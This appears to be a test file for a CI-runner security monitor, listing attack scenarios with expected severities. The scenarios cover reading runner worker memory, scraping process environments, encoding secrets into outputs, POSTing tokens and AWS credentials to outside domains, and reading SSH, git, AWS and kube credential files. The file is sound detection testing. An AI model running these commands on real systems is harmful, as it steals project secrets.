// Scenario variants for THREATS.md classes 1–5 (runner memory, environment scraping, secret exposure,
// secret-bearing egress, credential files), each done with other tools and encodings than the shared cases.
import t from 'tap';
import { runSuite, type Variant } from '../helpers/scenario-suite.js';
import { url } from '../helpers/scenario-world.js';

// start_brk of the worker from /proc/PID/stat (not maps), so only the memory access itself is observable.
const BRK = 'brk=$(awk \'{print $47}\' /proc/$WORKER_PID/stat)';

const variants: Variant[] = [
  { cls: 1, name: 'python ctypes process_vm_readv on the runner worker', min: 'critical', spec: () => ({ trigger: 'pull_request_target', script: `
python3 - <<'PY'
import ctypes, os
pid = int(os.environ["WORKER_PID"])
brk = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[44])
class IOV(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(4096)
local, remote = IOV(ctypes.cast(buf, ctypes.c_void_p), 4096), IOV(brk, 4096)
libc = ctypes.CDLL(None, use_errno=True)
n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print("read", n)
PY` }) },
  { cls: 1, name: 'dd of /proc/PID/mem at the heap of the runner worker', min: 'critical', spec: () => ({ trigger: 'pull_request', fork: true, script: `
${BRK}
dd if=/proc/$WORKER_PID/mem of=/dev/null bs=4096 skip=$((brk / 4096)) count=8 status=none || true
echo done` }) },
  { cls: 1, name: 'gdb attaches to the runner worker', min: 'critical', spec: () => ({ trigger: 'push', script: `
timeout 20 gdb -q -nx -batch -p $WORKER_PID -ex 'info inferiors' >/dev/null 2>&1 || true
echo done` }) },

  { cls: 2, name: 'node reads the worker environ', min: 'high', spec: () => ({ trigger: 'push', script: `
node -e 'const e = require("fs").readFileSync("/proc/" + process.env.WORKER_PID + "/environ", "latin1").split("\\0"); console.log(e.length, "vars")'` }) },
  { cls: 2, name: 'xargs -0 fed from /proc/PID/environ by the shell', min: 'high', spec: () => ({ trigger: 'pull_request', script: `
xargs -0 -n1 < /proc/$WORKER_PID/environ | cut -d= -f1 | sort | head -3` }) },
  { cls: 2, name: 'strings on the parent (wrapper) environ in pull_request_target', min: 'high', spec: () => ({ trigger: 'pull_request_target', script: `
strings -n 8 /proc/$PPID/environ | wc -l` }) },

  { cls: 3, name: 'secret hex-encoded to stdout (xxd)', min: 'medium', spec: () => ({ trigger: 'push', script: `
printf '%s' "$NPM_TOKEN" | xxd -p -c 256` }) },
  { cls: 3, name: 'secret URL-encoded into out/settings.ini (python)', min: 'medium', spec: () => ({ trigger: 'push', script: `
mkdir -p out
python3 -c 'import os, urllib.parse; open("out/settings.ini", "w").write("[aws]\\nsecret=" + urllib.parse.quote(os.environ["AWS_SECRET_ACCESS_KEY"] + "/+", safe="") + "\\n")'
echo written` }) },
  { cls: 3, name: 'secret as a DNS label (getent)', min: 'medium', spec: () => ({ trigger: 'push', script: `
getent ahostsv4 "$GITHUB_TOKEN.l.sinkzone.test" >/dev/null || true
echo resolved` }) },
  { cls: 3, name: 'secret base64 twice into the step summary (perl)', min: 'medium', spec: () => ({ trigger: 'pull_request', fork: true, script: `
perl -MMIME::Base64 -e 'print "token: ", encode_base64(encode_base64($ENV{SLACK_BOT_TOKEN}, ""), ""), "\\n"' >> "$GITHUB_STEP_SUMMARY"
echo ok` }) },

  { cls: 4, name: 'node http POST of a token to a non-allowed domain', min: 'high', spec: (net) => ({ trigger: 'push', script: `
node -e 'const r = require("http").request(process.argv[1], { method: "POST" }, (s) => s.resume()); r.on("error", () => {}); r.end(JSON.stringify({ t: process.env.NPM_TOKEN }))' ${url(net, 'metrics.widget-telemetry.io', '/v1/ingest')}
sleep 0.3` }) },
  { cls: 4, name: 'wget --post-data of a key from a fork PR', min: 'critical', spec: (net) => ({ trigger: 'pull_request', fork: true, script: `
wget -q -O /dev/null --post-data="k=$AWS_SECRET_ACCESS_KEY" ${url(net, 'collector.buildstats.dev', '/c')} || true` }) },
  { cls: 4, name: 'python with an empty env reads ~/.aws/credentials then posts it', min: 'high', spec: (net) => ({ trigger: 'push', script: `
env -i HOME="$HOME" PATH="$PATH" python3 -c '
import os, urllib.request
body = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
try: urllib.request.urlopen(urllib.request.Request("${url(net, 'metrics.widget-telemetry.io', '/up')}", data=body), timeout=3).read()
except Exception: pass'` }) },

  { cls: 5, name: 'tar of ~/.aws and ~/.docker', min: 'high', spec: () => ({ trigger: 'push', script: `
tar -C "$HOME" -czf "$SCEN_DIR/c.tgz" .aws .docker
ls -l "$SCEN_DIR/c.tgz" | wc -l` }) },
  { cls: 5, name: 'python reads ssh key and git-credentials in pull_request_target', min: 'high', spec: () => ({ trigger: 'pull_request_target', script: `
python3 -c 'import os; h = os.path.expanduser("~"); print(sum(len(open(h + p).read()) for p in ("/.ssh/id_rsa", "/.git-credentials")))'` }) },
  { cls: 5, name: 'base64 of ~/.kube/config', min: 'high', spec: () => ({ trigger: 'push', script: `
base64 -w0 "$HOME/.kube/config" | wc -c` }) },
];

runSuite(t, variants);
